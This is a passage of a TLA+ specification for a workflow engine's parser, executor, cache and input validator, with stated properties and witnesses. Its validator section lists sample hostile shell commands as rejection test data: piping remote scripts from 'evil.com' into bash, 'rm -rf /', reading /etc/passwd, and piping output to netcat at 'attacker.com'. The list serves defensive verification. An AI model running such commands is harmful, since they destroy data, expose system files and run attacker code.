    \/ Tick

SpecCache == InitCache /\ [][NextCache]_vars

-----------------------------------------------------------------------------
(* Properties of the parser *)

DeclaredIds(steps) == {steps[i].id : i \in DOMAIN steps}

DistinctIds(steps) == \A i, j \in DOMAIN steps : steps[i].id = steps[j].id => i = j

ReferencesResolve(steps) ==
    \A i \in DOMAIN steps : steps[i].depends_on \subseteq DeclaredIds(steps)

\* The depends_on relation as written: s -> d when a step with id s lists d.
DependsOn(steps) ==
    {e \in StepIds \X StepIds :
        \E i \in DOMAIN steps : steps[i].id = e[1] /\ e[2] \in steps[i].depends_on}

RECURSIVE Paths(_, _)
\* Pairs joined by a path of at most n + 1 edges.
Paths(E, n) ==
    IF n = 0 THEN E
    ELSE LET P == Paths(E, n - 1)
         IN P \cup {e \in StepIds \X StepIds :
                      \E b \in StepIds : <<e[1], b>> \in P /\ <<b, e[2]>> \in E}

HasCycle(E) == \E a \in StepIds : <<a, a>> \in Paths(E, Cardinality(StepIds))

ValidTopologicalOrder(res, steps) ==
    /\ res.status = "ok"
    /\ Len(res.execution_order) = Cardinality(DeclaredIds(steps))
    /\ \A id \in DeclaredIds(steps) :
          Cardinality({k \in DOMAIN res.execution_order : res.execution_order[k] = id}) = 1
    /\ \A i \in DOMAIN steps : \A d \in steps[i].depends_on :
          \E kd, ks \in DOMAIN res.execution_order :
              /\ res.execution_order[kd] = d
              /\ res.execution_order[ks] = steps[i].id
              /\ kd < ks

Parsed == parse_result # NoResult

\* C1 as stated: for every workflow whose step dependency graph is acyclic,
\* parse_workflow_data produces an execution_order that contains every step id
\* exactly once and places every step after all the steps in its depends_on.
C1_AcyclicHasOrder ==
    (Parsed /\ workflow_data # <<>> /\ ReferencesResolve(workflow_data)
            /\ ~HasCycle(DependsOn(workflow_data)))
        => ValidTopologicalOrder(parse_result, workflow_data)

\* C1 amended: the same for every acyclic workflow whose step ids are pairwise
\* distinct (a repeated id makes the parser raise WorkflowValidationError).
C1_AcyclicDistinctHasOrder ==
    (Parsed /\ workflow_data # <<>> /\ ReferencesResolve(workflow_data)
            /\ DistinctIds(workflow_data)
            /\ ~HasCycle(DependsOn(workflow_data)))
        => ValidTopologicalOrder(parse_result, workflow_data)

\* Scenario B: B depends on A, A declared second; the order is A, B.
C1_Witness ==
    /\ workflow_data = <<[id |-> "B", depends_on |-> {"A"}],
                         [id |-> "A", depends_on |-> {}]>>
    /\ parse_result.status = "ok"
    /\ parse_result.execution_order = <<"A", "B">>

\* C2: a workflow whose depends_on relation has a cycle is never returned:
\* parse_workflow_data raises WorkflowValidationError, and the error is the
\* circular-dependency one whenever the dependency graph could be built
\* (every depends_on names a declared step).
C2_CycleRejected ==
    (Parsed /\ HasCycle(DependsOn(workflow_data)))
        => /\ parse_result.status = "WorkflowValidationError"
           /\ ReferencesResolve(workflow_data)
                => parse_result.message = "circular_dependency"

\* Scenario C: A depends on B and B on A.
C2_Witness ==
    /\ workflow_data = <<[id |-> "A", depends_on |-> {"B"}],
                         [id |-> "B", depends_on |-> {"A"}]>>
    /\ parse_result = ValidationError("circular_dependency")

-----------------------------------------------------------------------------
(* Properties of the engine *)

StepAt(i) == workflow.steps[i]

Results(r) == records[r].step_results

Recorded(r, i) == StepAt(i).id \in DOMAIN Results(r)

Ended(r) == run[r].pc \in {"returned", "raised"}

InFlight(r) == run[r].pc \in {"running", "awaiting"}

Untouched(r, j) ==
    /\ ~Recorded(r, j)
    /\ StepAt(j).id \notin run[r].executed
    /\ StepAt(j).id \notin run[r].spawned
    /\ StepAt(j).id \notin run[r].written
    /\ StepAt(j).id \notin DOMAIN run[r].steps

FailedStepHalts ==
    \A r \in Runs : \A i \in DOMAIN workflow.steps :
        (Recorded(r, i) /\ Results(r)[StepAt(i).id].status = "FAILED")
            => /\ run[r].pc = "raised"
               /\ \A j \in DOMAIN workflow.steps : j > i => Untouched(r, j)

\* C3: once a step of a run has ended FAILED the run has raised, no later step
\* of execution_order was started or has a result, and the run takes no
\* further step (so it does not come near the cache again).
C3_FailFast ==
    /\ []FailedStepHalts
    /\ [][\A r \in Runs : run[r].pc = "raised"
              => run'[r] = run[r] /\ records'[r] = records[r]]_vars

C3_Witness ==
    \E r \in Runs :
        /\ Len(workflow.steps) = 2
        /\ Recorded(r, 1)
        /\ Results(r)[StepAt(1).id].status = "FAILED"
        /\ run[r].error = "Exception"

GatePasses(step) == step.when \in {"", "true", "1", "yes"}

\* C4 as stated: executing a cache-enabled step whose key has an entry within
\* its TTL records a result with status CACHED and cached = true that carries
\* the entry's outputs, and the step's executor is not invoked.
C4_SecondRunIsCached ==
    [][\A r \in Runs :
        (run[r].pc = "running" /\ run'[r] # run[r])
        => LET step == StepAt(run[r].next)
               key == [id |-> step.id, type |-> step.type,
                       step_inputs |-> step.inputs, inputs |-> run[r].inputs]
           IN (/\ step.cache_enabled
               /\ GatePasses(step)
               /\ key \in DOMAIN step_cache
               /\ now - step_cache[key].cached_at <= 3600)
              => /\ step.id \in DOMAIN records'[r].step_results
                 /\ records'[r].step_results[step.id].status = "CACHED"
                 /\ records'[r].step_results[step.id].cached
                 /\ records'[r].step_results[step.id].outputs = step_cache[key].outputs
                 /\ step.id \notin run'[r].executed]_vars

LacksExecute(permissions) ==
    "workflow.execute" \notin permissions /\ "admin" \notin permissions

NeverStarted(r) ==
    /\ run[r].pc = "raised"
    /\ run[r].error = "SecurityError"
    /\ records[r] = NoRecord
    /\ \A e \in ExecIds : executions[e] # r
    /\ run[r].executed = {} /\ run[r].spawned = {} /\ run[r].written = {}
    /\ run[r].release_calls = 0

\* C5: a call whose SecurityContext lacks workflow.execute raises SecurityError
\* and never starts: the call allocates nothing, creates no execution record
\* and executes no step.
C5_NoPermissionNoStart ==
    /\ [](\A r \in Runs :
            (run[r].pc # "idle" /\ LacksExecute(run[r].permissions)) => NeverStarted(r))
    /\ [][\A r \in Runs :
            (run[r].pc = "idle" /\ run'[r].pc # "idle"
                                /\ LacksExecute(run'[r].permissions))
            => UNCHANGED <<active_workflows, other_active, executions, records,
                           step_cache>>]_vars

C5_Witness ==
    \E r \in Runs :
        /\ run[r].permissions = {}
        /\ run[r].pc = "raised"
        /\ run[r].error = "SecurityError"

\* The record is created exactly when allocate_resources succeeded.
Allocated(r) == records[r] # NoRecord

\* C6: a run whose allocation succeeded releases exactly once however it ends:
\* at the step in which it returns or raises its execution id leaves
\* active_workflows, and release_resources was called once; a run that never
\* allocated never releases.
C6_ReleasedOnEveryExit ==
    /\ [](\A r \in Runs :
            /\ run[r].release_calls <= 1
            /\ (Ended(r) /\ Allocated(r)) => run[r].release_calls = 1
            /\ InFlight(r) => run[r].release_calls = 0
            /\ (InFlight(r) /\ \A q \in Runs \ {r} :
                                  run[q].execution_id # run[r].execution_id)
                  => run[r].execution_id \in active_workflows
            /\ ~Allocated(r) => run[r].release_calls = 0)
    /\ [][\A r \in Runs :
            (InFlight(r) /\ run'[r].pc \in {"returned", "raised"})
            => /\ run[r].execution_id \notin active_workflows'
               /\ run'[r].release_calls = 1]_vars

C6_Witness ==
    \E r \in Runs :
        /\ run[r].error = "WorkflowTimeoutError"
        /\ run[r].release_calls = 1
        /\ run[r].execution_id \notin active_workflows

\* C7 as stated: the number of allocated executions never exceeds the ceiling
\* of the engine's security profile (10, 25, 50, 100).
C7_ProfileCeiling ==
    ActiveCount <=
        (CASE security_profile = "plan_only"  -> 10
           [] security_profile = "restricted" -> 25
           [] security_profile = "standard"   -> 50
           [] security_profile = "elevated"   -> 100)

AssertFalse(step) ==
    /\ step.type = "assert"
    /\ step.condition \in {"false", "0", "no"}
    /\ step.when = ""

TerminalStatuses == {"COMPLETED", "FAILED", "SKIPPED", "CACHED", "TIMEOUT", "TERMINATED"}

\* C9 as stated: a step result takes one terminal status and is finalized
\* exactly once: no assignment to status follows a terminal one.
C9_FinalizedOnce ==
    \A r \in Runs : \A id \in DOMAIN Results(r) :
        LET hist == Results(r)[id].hist
        IN \A k \in DOMAIN hist : hist[k] \in TerminalStatuses => k = Len(hist)

\* C10 as stated: once the call has returned or raised, the status of the
\* execution record it created is COMPLETED, FAILED or TIMEOUT, FAILED after
\* a failed step and TIMEOUT after the time limit, never RUNNING.
C10_RecordStatusFinal ==
    \A r \in Runs :
        (Ended(r) /\ Allocated(r))
        => /\ records[r].status \in {"COMPLETED", "FAILED", "TIMEOUT"}
           /\ run[r].error = "Exception" => records[r].status = "FAILED"
           /\ run[r].error = "WorkflowTimeoutError" => records[r].status = "TIMEOUT"

\* C11 as stated: once a run's step execution has lasted longer than the
\* workflow's declared timeout, the only thing the run does is raise
\* WorkflowTimeoutError: the awaited step is dropped without a result and no
\* further step starts.
C11_DeclaredTimeoutEnforced ==
    [][\A r \in Runs :
        (/\ run[r].pc = "awaiting"
         /\ now - run[r].started_at > workflow.timeout
         /\ run'[r] # run[r])
        => /\ run'[r].pc = "raised"
           /\ run'[r].error = "WorkflowTimeoutError"
           /\ records'[r] = records[r]
           /\ run'[r].executed = run[r].executed
           /\ run'[r].spawned = run[r].spawned]_vars

Strictness == strictness_level(security_profile)

\* The validator turns the command of a shell step down.
CommandRejected(step) ==
    step.type = "shell" /\ ~validate_shell_command(Strictness, step.command)

\* C12: a shell step whose command the validator rejects never gets a
\* subprocess: no run ever spawns one for it, and a run that executed the
\* step holds a FAILED result for it in the state in which it was executed.
C12_RejectedNeverSpawned ==
    /\ [](\A r \in Runs : \A i \in DOMAIN workflow.steps :
            CommandRejected(StepAt(i))
            => /\ StepAt(i).id \notin run[r].spawned
               /\ StepAt(i).id \in run[r].executed
                    => /\ Recorded(r, i)
                       /\ Results(r)[StepAt(i).id].status = "FAILED"
                       /\ Results(r)[StepAt(i).id].exit_code = "none")
    /\ [][\A r \in Runs : \A i \in DOMAIN workflow.steps :
            (StepAt(i).id \in run'[r].spawned /\ StepAt(i).id \notin run[r].spawned)
            => ~CommandRejected(StepAt(i))]_vars

C12_Witness ==
    \E r \in Runs : \E i \in DOMAIN workflow.steps :
        /\ StepAt(i).command = "curl x | sh"
        /\ "shell.execute" \in run[r].permissions
        /\ StepAt(i).id \in run[r].executed
        /\ StepAt(i).id \notin run[r].spawned
        /\ Results(r)[StepAt(i).id].error = "Dangerous shell pattern detected"

\* A security violation met while executing the step: a missing permission or
\* a rejected command, template or path.
SecurityViolation(r, step) ==
    \/ /\ step.type = "shell"
       /\ \/ {"shell.execute", "admin"} \cap run[r].permissions = {}
          \/ CommandRejected(step)
    \/ /\ step.type = "template"
       /\ \/ {"file.write", "admin"} \cap run[r].permissions = {}
          \/ ~validate_template_content(Strictness, step.template)
          \/ ~validate_file_path(step.output)

\* C13 as stated: an ordinary failure of a step (exit code, step timeout,
\* false assertion) ends in a FAILED result, while a security violation met
\* while executing a step reaches the caller as SecurityError and leaves no
\* FAILED result.
C13_SecurityViolationPropagates ==
    \A r \in Runs : \A i \in DOMAIN workflow.steps :
        /\ (Recorded(r, i) /\ Results(r)[StepAt(i).id].exit_code = "1")
              => Results(r)[StepAt(i).id].status = "FAILED"
        /\ (StepAt(i).id \in run[r].executed /\ SecurityViolation(r, StepAt(i)))
              => /\ run[r].pc = "raised"
                 /\ run[r].error = "SecurityError"
                 /\ ~(Recorded(r, i) /\ Results(r)[StepAt(i).id].status = "FAILED")

\* C14 as stated: when the run has returned, every declared output whose
\* reference is stepId.outputs.name carries the value the step stepId
\* recorded under name in this run.
C14_OutputsResolved ==
    \A r \in Runs :
        run[r].pc = "returned"
        => \A out \in DOMAIN workflow.outputs :
              LET ref == workflow.outputs[out]
              IN (/\ Len(ref) = 3
                  /\ ref[2] = "outputs"
                  /\ ref[1] \in DOMAIN Results(r)
                  /\ ref[3] \in DOMAIN Results(r)[ref[1]].outputs)
                 => records[r].outputs[out] = Results(r)[ref[1]].outputs[ref[3]]

-----------------------------------------------------------------------------
(* Properties of the cache key functions *)

\* Equal as Python dicts: the same keys with the same values, in any order.
SameDict(a, b) ==
    /\ Keys(a) = Keys(b)
    /\ \A k \in Keys(a) : Get(a, k) = Get(b, k)

SameStep(s, t) ==
    /\ [s EXCEPT !.inputs = <<>>] = [t EXCEPT !.inputs = <<>>]
    /\ SameDict(s.inputs, t.inputs)

Keyed == cache_keys # <<>>

\* C15 as stated: for an identical step and an identical execution context
\* the key functions return the identical key, in whatever order the step's
\* inputs map and the execution inputs map were filled.
C15_KeyDeterministic ==
    Keyed =>
        ((/\ SameStep(cache_key_args[1].step, cache_key_args[2].step)
          /\ SameDict(cache_key_args[1].inputs, cache_key_args[2].inputs))
         => cache_keys[1] = cache_keys[2])

\* C15 amended: the same for every step whose key is the default one or
\* whose key template refers to single input values; a template that renders
\* the inputs map as a whole renders it in insertion order.
C15_KeyDeterministicScalar ==
    Keyed =>
        ((/\ SameStep(cache_key_args[1].step, cache_key_args[2].step)
          /\ SameDict(cache_key_args[1].inputs, cache_key_args[2].inputs)
          /\ cache_key_args[1].step.key # "{{ inputs }}")
         => cache_keys[1] = cache_keys[2])

\* The same step and context, both maps filled in opposite orders.
C15_Witness ==
    /\ Keyed
    /\ cache_key_args[1].step.key = ""
    /\ cache_key_args[1].step.inputs = << <<"p", "1">>, <<"q", "2">> >>
    /\ cache_key_args[2].step.inputs = << <<"q", "2">>, <<"p", "1">> >>
    /\ cache_key_args[1].inputs = << <<"name", "x">>, <<"env", "prod">> >>
    /\ cache_key_args[2].inputs = << <<"env", "prod">>, <<"name", "x">> >>
    /\ cache_keys[1] = cache_keys[2]

\* C16 as stated: for a step without a key template, execution inputs that
\* differ give different keys, from the parser's function and from the
\* engine's.
C16_InputsSeparateKeys ==
    Keyed =>
        ((/\ cache_key_args[1].step = cache_key_args[2].step
          /\ cache_key_args[1].step.key = ""
          /\ ~SameDict(cache_key_args[1].inputs, cache_key_args[2].inputs))
         => /\ cache_keys[1].parser # cache_keys[2].parser
            /\ cache_keys[1].engine # cache_keys[2].engine)

-----------------------------------------------------------------------------
(* Properties of the parser, continued *)

\* C17: workflow data in which two steps share an id is never returned:
\* parse_workflow_data raises WorkflowValidationError, so the step ids of
\* every WorkflowDefinition returned are pairwise distinct.
C17_DuplicateIdsRejected ==
    /\ (Parsed /\ ~DistinctIds(workflow_data))
          => parse_result.status = "WorkflowValidationError"
    /\ parse_result.status = "ok" => DistinctIds(parse_result.steps)

\* Two steps with id A and no dependency between them.
C17_Witness ==
    /\ workflow_data = <<[id |-> "A", depends_on |-> {}],
                         [id |-> "A", depends_on |-> {}]>>
    /\ parse_result.status = "WorkflowValidationError"

\* The step ids the 'from' references of the outputs start with.
ReferencedSteps(data) == {data[n][1] : n \in DOMAIN data}

\* C18 as stated: workflow data with an output whose 'from' names a step that
\* is not declared makes parse_workflow_data raise WorkflowValidationError,
\* so the output references of every WorkflowDefinition returned name
\* declared steps.
C18_OutputReferenceRejected ==
    /\ (Parsed /\ ~(ReferencedSteps(outputs_data) \subseteq DeclaredIds(workflow_data)))
          => parse_result.status = "WorkflowValidationError"
    /\ parse_result.status = "ok"
          => \A n \in DOMAIN parse_result.outputs :
                parse_result.outputs[n].from_step[1] \in DeclaredIds(parse_result.steps)

\* C19: workflow data in which a depends_on names an undeclared id makes
\* parse_workflow_data raise the unknown-step WorkflowValidationError, so
\* every edge of a returned step_dependency_graph ends at a declared step.
C19_UnknownDependencyRejected ==
    /\ (Parsed /\ ~ReferencesResolve(workflow_data))
          => parse_result = ValidationError("unknown_step")
    /\ parse_result.status = "ok"
          => \A id \in DOMAIN parse_result.step_dependency_graph :
                parse_result.step_dependency_graph[id]
                    \subseteq DeclaredIds(parse_result.steps)

\* A declared first, then B depending on the undeclared C.
C19_Witness ==
    /\ workflow_data = <<[id |-> "A", depends_on |-> {}],
                         [id |-> "B", depends_on |-> {"C"}]>>
    /\ parse_result = ValidationError("unknown_step")

-----------------------------------------------------------------------------
(* Properties of the engine, continued *)

RequiredMissing(inputs) ==
    \E n \in DOMAIN workflow.inputs :
        workflow.inputs[n].required /\ n \notin Keys(inputs)

\* C20 as stated: a call that lacks a required input raises before anything
\* is allocated, recorded or executed, and in a run that got past validation
\* the execution inputs hold every optional input, a missing one under its
\* declared default.
C20_InputsValidatedFirst ==
    \A r \in Runs :
        /\ (run[r].pc # "idle" /\ RequiredMissing(run[r].inputs)) => NeverStarted(r)
        /\ Allocated(r)
              => \A n \in DOMAIN workflow.inputs :
                    (~workflow.inputs[n].required /\ workflow.inputs[n].default # "None")
                    => n \in Keys(run[r].inputs)

-----------------------------------------------------------------------------
(* SpecValidator: SecureInputValidator and SecurityContext.log_security_event *)

\* Entries the audit trail gets.
MaxAuditEntries == 2

MAX_LOG_LENGTH == 1000

ValidatorCalls ==
    {[method |-> "validate_string_input", text |-> t] : t \in StringTexts}
    \cup {[method |-> "validate_shell_command", text |-> t] : t \in CommandTexts}
    \cup {[method |-> "validate_template_content", text |-> t] : t \in TemplateTexts}
    \cup {[method |-> "validate_file_path", text |-> t] : t \in PathTexts}

\* The message of the SecurityError a method raises on a text, <<>> if none.
validator_error(strictness, method, text) ==
    CASE method = "validate_string_input"     -> string_input_error(strictness, text, "")
      [] method = "validate_shell_command"    -> shell_command_error(strictness, text)
      [] method = "validate_template_content" -> template_content_error(strictness, text)
      [] method = "validate_file_path"        -> file_path_error(text)

\* Events handed to log_security_event: plain ones, ones that carry a
\* key=value secret, one with a control character, and one of
\* MAX_LOG_LENGTH + 1 letters e ("e*1001").
SecurityEvents ==
    { "Test security event",
      "Another event with sensitive data: password=secret",
      "Step build failed: token=abc",
      "line one\nline two",
      "e*1001" }

\* _sanitize_log_entry: control characters are removed, the rest is cut at
\* MAX_LOG_LENGTH characters.
sanitize_log_entry(entry) ==
    CASE entry = "line one\nline two" -> "line oneline two"
      [] entry = "e*1001"             -> "e*" \o ToString(MAX_LOG_LENGTH)
      [] OTHER                        -> entry

\* log_security_event: the trail with the new entry, timestamp and event.
log_security_event(trail, event, t) ==
    Append(trail, [timestamp |-> t, event |-> sanitize_log_entry(event)])

InitValidator ==
    /\ validator_call \in ValidatorCalls
    /\ validation = NoValidation
    /\ audit_trail = <<>>
    /\ execution = IdleExecution
    /\ workflow_data = <<>>
    /\ outputs_data = EmptyMap
    /\ parse_result = NoResult
    /\ cache_key_args = <<>>
    /\ cache_keys = <<>>
    /\ InitCacheIdle
    /\ security_profile = "standard"
    /\ resource_limits = EmptyMap
    /\ workflow = WorkflowDefinition(<<build>>, EmptyMap, EmptyMap, DefaultWorkflowTimeout)
    /\ active_workflows = {}
    /\ other_active = 0
    /\ executions = [e \in ExecIds |-> "none"]
    /\ records = [r \in Runs |-> NoRecord]
    /\ step_cache = EmptyMap
    /\ now = 0
    /\ run = [r \in Runs |-> IdleRun]

\* The method is called on the validator SecureInputValidator.create_for_profile
\* builds for each profile.
Validate ==
    /\ validation = NoValidation
    /\ validation' =
          [p \in Profiles |->
              LET error == validator_error(strictness_level(p), validator_call.method,
                                           validator_call.text)
              IN IF error = <<>> THEN [status |-> "returned", message |-> <<>>]
                 ELSE [status |-> "SecurityError", message |-> error]]
    /\ UNCHANGED <<validator_call, audit_trail>>
    /\ UNCHANGED basic_vars
    /\ UNCHANGED parser_vars
    /\ UNCHANGED engine_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars

\* SecurityContext.log_security_event(event)
LogSecurityEvent ==
    /\ Len(audit_trail) < MaxAuditEntries
    /\ \E event \in SecurityEvents :
         audit_trail' = log_security_event(audit_trail, event, now)
    /\ UNCHANGED <<validator_call, validation>>
    /\ UNCHANGED basic_vars
    /\ UNCHANGED parser_vars
    /\ UNCHANGED engine_vars
    /\ UNCHANGED key_vars
    /\ UNCHANGED cache_vars

NextValidator ==
    \/ Validate
    \/ LogSecurityEvent

SpecValidator == InitValidator /\ [][NextValidator]_vars

-----------------------------------------------------------------------------
(* SpecCache properties *)

Age(entry, t) == t - entry.cached_at

\* C21: a lookup whose entry is older than its TTL returns a miss and removes
\* that entry from the cache, and no lookup returns an entry whose age
\* exceeds its TTL.
C21_ExpiredLookupMisses ==
    /\ [](lookup.hit => Age(lookup.data, lookup.at) <= lookup.data.ttl)
    /\ [][\A k \in LookupKeys :
            (/\ lookup' # lookup
             /\ lookup'.key = k
             /\ k \in DOMAIN step_cache
             /\ Age(step_cache[k], now) > step_cache[k].ttl)
            => (~lookup'.hit /\ k \notin DOMAIN step_cache')]_vars

\* An entry older than its TTL was looked up: a miss, and the entry is gone.
C21_Witness ==
    /\ lookup.found
    /\ ~lookup.hit
    /\ lookup.key \notin DOMAIN step_cache
    /\ lookup.at > CacheTtl

Inserting ==
    \E k \in DOMAIN step_cache' :
        k \notin DOMAIN step_cache \/ step_cache'[k] # step_cache[k]

\* C22: after any sequence of insertions the cache holds no more entries
\* than the configured maximum, and an insertion evicts only entries that
\* are at least as old as every entry it keeps.
C22_CacheBounded ==
    /\ [](Cardinality(DOMAIN step_cache) <= max_cache_entries)
    /\ [][Inserting =>
            \A e \in DOMAIN step_cache \ DOMAIN step_cache' :
                \A j \in DOMAIN step_cache \cap DOMAIN step_cache' :
                    step_cache'[j] = step_cache[j]
                    => step_cache[e].cached_at <= step_cache[j].cached_at]_vars

-----------------------------------------------------------------------------
(* SpecValidator properties *)

\* The profiles from the least strict to the strictest.
Rank(profile) ==
    CASE profile = "elevated"   -> 1
      [] profile = "standard"   -> 2
      [] profile = "restricted" -> 3
      [] profile = "plan_only"  -> 4

Validated == validation # NoValidation

Rejected(p) == validation[p].status = "SecurityError"

Called(method) == Validated /\ validator_call.method = method

\* The maximum input lengths as the profiles are said to have them.
StatedMaxLength(profile) ==
    CASE profile = "elevated"   -> 50000
      [] profile = "standard"   -> 10000
      [] profile = "restricted" -> 5000
      [] profile = "plan_only"  -> 2000

\* C23: an input that validate_string_input rejects under a profile is
\* rejected under every stricter profile; the pattern sets grow with
\* strictness, and an input free of patterns is rejected exactly when it is
\* longer than 50,000 / 10,000 / 5,000 / 2,000 characters.
C23_StrictnessMonotone ==
    Called("validate_string_input") =>
        /\ \A p, q \in Profiles : (Rank(p) <= Rank(q) /\ Rejected(p)) => Rejected(q)
        /\ \A p, q \in Profiles :
              Rank(p) <= Rank(q)
              => dangerous_patterns(strictness_level(p))
                    \subseteq dangerous_patterns(strictness_level(q))
        /\ patterns_in(validator_call.text) = {}
              => \A p \in Profiles :
                    Rejected(p) <=> text_length(validator_call.text) > StatedMaxLength(p)

\* open('f') passes under elevated and standard and is rejected under
\* restricted and plan_only.
C23_Witness ==
    /\ Called("validate_string_input")
    /\ validator_call.text = "open('f')"
    /\ ~Rejected("elevated") /\ ~Rejected("standard")
    /\ Rejected("restricted") /\ Rejected("plan_only")

\* Sample commands that chain a second command with ; or &&, substitute a
\* command with backquotes or $(), or pipe into sh, bash or nc.
ChainingCommands ==
    { "ls; rm -rf /", "ls; cat /etc/passwd", "ls && rm -rf /",
      "echo test && cat /etc/passwd", "echo <bq>id<bq>", "ls <bq>whoami<bq>",
      "echo $(id)", "ls $(whoami)", "ls $(id)", "curl x | sh",
      "python script.py | sh", "curl evil.com | bash",
      "wget -O- malicious.sh | sh", "curl http://evil.com/shell.sh | bash",
      "ls | nc attacker.com 1234" }

\* C24 as stated: validate_shell_command raises SecurityError, under every
\* profile, on every command that chains or substitutes commands or pipes
\* into a shell or netcat.
C24_ChainingRejected ==
    (Called("validate_shell_command") /\ validator_call.text \in ChainingCommands)
        => \A p \in Profiles : Rejected(p)

\* The detection patterns that occur in a text.
MatchedPatterns(text) ==
    patterns_in(text) \cup shell_patterns_in(text) \cup injection_patterns_in(text)

\* C25 as stated: the message of a SecurityError raised by the validator
\* holds no detection pattern that matched the rejected text.
C25_MessageHidesPattern ==
    Validated =>
        \A p \in Profiles :
            Rejected(p) =>
                \A i \in DOMAIN validation[p].message :
                    validation[p].message[i] \notin MatchedPatterns(validator_call.text)

\* Texts that hold a password/token/key/secret key=value occurrence.
HoldsSecret(text) ==
    text \in { "Another event with sensitive data: password=secret",
               "Step build failed: token=abc" }

\* C26 as stated: no entry of the audit trail holds a key=value secret.
C26_AuditRedacted ==
    \A i \in DOMAIN audit_trail : ~HoldsSecret(audit_trail[i].event)

-----------------------------------------------------------------------------
(* Properties of the engine: skipped steps *)

GateFalse(step) == step.when \in {"false", "0", "no"}

NotRun(r, id) ==
    /\ id \notin run[r].executed
    /\ id \notin run[r].spawned
    /\ id \notin run[r].written

\* C27 as stated: a step whose when gate evaluates false gets a step result
\* of status SKIPPED, neither the cache nor an executor is used for it, and
\* the run goes on with the next step of execution_order.
C27_GatedStepSkipped ==
    /\ [](\A r \in Runs : \A i \in DOMAIN workflow.steps :
            (GateFalse(StepAt(i)) /\ Recorded(r, i))
            => /\ Results(r)[StepAt(i).id].status = "SKIPPED"
               /\ ~Results(r)[StepAt(i).id].cached
               /\ NotRun(r, StepAt(i).id))
    /\ [][\A r \in Runs : \A i \in DOMAIN workflow.steps :
            (/\ GateFalse(StepAt(i))
             /\ ~Recorded(r, i)
             /\ StepAt(i).id \in DOMAIN records'[r].step_results)
            => /\ step_cache' = step_cache
               /\ IF i < Len(workflow.steps)
                  THEN run'[r].pc = "running" /\ run'[r].next = i + 1
                  ELSE run'[r].pc = "returned"]_vars

\* C28 as stated: the recorded status of an assert step whose condition is
\* false follows on_failure: fail gives FAILED, warn gives COMPLETED with a
\* warning output, continue gives SKIPPED.
C28_AssertStatusByPolicy ==
    \A r \in Runs : \A i \in DOMAIN workflow.steps :
        (AssertFalse(StepAt(i)) /\ Recorded(r, i))
        => LET res == Results(r)[StepAt(i).id]
           IN CASE StepAt(i).on_failure = "fail" -> res.status = "FAILED"
                [] StepAt(i).on_failure = "warn" ->
                      res.status = "COMPLETED" /\ "warning" \in DOMAIN res.outputs
                [] OTHER -> res.status = "SKIPPED"

-----------------------------------------------------------------------------
(* Properties of the engine: the command of a shell step, allocation *)

\* C29 as stated: what a shell step hands to the subprocess is its command
\* with the placeholders substituted from the execution context, and that
\* string passes validate_shell_command.
C29_RenderedCommandValidated ==
    \A r \in Runs :
        /\ \A i \in DOMAIN workflow.steps :
              StepAt(i).id \in run[r].spawned
              => render_template_securely(StepAt(i).command,
                    execution_context(run[r].inputs, run[r].execution_id, run[r].steps))
                 \in run[r].commands
        /\ \A c \in run[r].commands : validate_shell_command(Strictness, c)

\* C30 as stated: a call in which setting the memory or CPU-time limit failed
\* does not raise for it: the execution is registered, its record is created
\* and the run proceeds.
C30_RlimitFailureOnlyLogged ==
    \A r \in Runs :
        run[r].rlimit_failed
        => /\ run[r].error # "ResourceExhaustionError"
           /\ Allocated(r)
           /\ executions[run[r].execution_id] = r

-----------------------------------------------------------------------------
(* Properties of the engine: the order in which steps run *)

\* The ids of the first k steps of execution_order.
OrderPrefix(k) == {StepAt(i).id : i \in (1..k) \cap DOMAIN workflow.steps}

\* The step a run is executing: the one whose subprocess it awaits.
RunningSteps(r) ==
    IF run[r].pc = "awaiting" THEN {run[r].result.step_id} ELSE {}

\* C31: the steps of a run execute one after the other in execution_order:
\* the steps with a recorded result, in the context and in the execution
\* record, are a prefix of execution_order, the one running step is the next
\* after that prefix, no step beyond it was ever started, and a step is
\* started only while no step is running and every step before it has a
\* recorded terminal result.
C31_SequentialInOrder ==
    /\ [](\A r \in Runs :
            /\ \E k \in 0..Len(workflow.steps) :
                  /\ DOMAIN run[r].steps = OrderPrefix(k)
                  /\ DOMAIN Results(r) = OrderPrefix(k)
                  /\ RunningSteps(r) \subseteq OrderPrefix(k + 1) \ OrderPrefix(k)
                  /\ run[r].executed \cup run[r].spawned \cup run[r].written
                        \subseteq OrderPrefix(k + 1)
            /\ run[r].pc # "awaiting" => run[r].result = NoStepResult)
    /\ [][\A r \in Runs : \A i \in DOMAIN workflow.steps :
            (Untouched(r, i) /\ RunningSteps(r) # {StepAt(i).id}
             /\ ~(Untouched(r, i) /\ RunningSteps(r) # {StepAt(i).id})')
            => /\ RunningSteps(r) = {}
               /\ \A j \in 1..(i - 1) :
                     /\ Recorded(r, j)
                     /\ Results(r)[StepAt(j).id].status \in TerminalStatuses
                     /\ StepAt(j).id \in DOMAIN run[r].steps]_vars

\* A run that has executed its second step after recording its first.
C31_Witness ==
    \E r \in Runs :
        /\ Len(workflow.steps) = 2
        /\ DOMAIN Results(r) = OrderPrefix(2)
        /\ StepAt(1).id \in run[r].executed
        /\ StepAt(2).id \in run[r].spawned

-----------------------------------------------------------------------------
(* Properties of the parser: ties in the execution order *)

\* The steps placed before position p of an execution order.
PlacedBefore(order, p) == {order[k] : k \in 1..(p - 1)}

\* The positions in the steps list of the steps that are ready at position p:
\* not placed yet, every dependency placed.
ReadyAt(steps, order, p) ==
    {i \in DOMAIN steps :
        /\ steps[i].id \notin PlacedBefore(order, p)
        /\ steps[i].depends_on \subseteq PlacedBefore(order, p)}

\* C32 as stated: at every position of execution_order the step placed is the
\* one declared earliest in the steps list among the steps whose dependencies
\* are all placed already.
C32_DeclarationOrderTieBreak ==
    (Parsed /\ parse_result.status = "ok")
    => LET order == parse_result.execution_order
       IN \A p \in DOMAIN order :
             \E i \in ReadyAt(workflow_data, order, p) :
                 /\ workflow_data[i].id = order[p]
                 /\ \A j \in ReadyAt(workflow_data, order, p) : i <= j

-----------------------------------------------------------------------------
(* Properties of the engine: failed steps and the step cache *)

\* The result of step i of run r is recorded in this step, with this status.
RecordedNow(r, i, status) ==
    /\ ~Recorded(r, i)
    /\ StepAt(i).id \in DOMAIN records'[r].step_results
    /\ records'[r].step_results[StepAt(i).id].status = status

\* C33 as stated: the execution of a step that ends FAILED leaves the step
\* cache as it was.
C33_FailedStepLeavesCache ==
    [][\A r \in Runs : \A i \in DOMAIN workflow.steps :
          RecordedNow(r, i, "FAILED") => step_cache' = step_cache]_vars

\* C33 amended: a step that ends FAILED creates no cache entry and changes
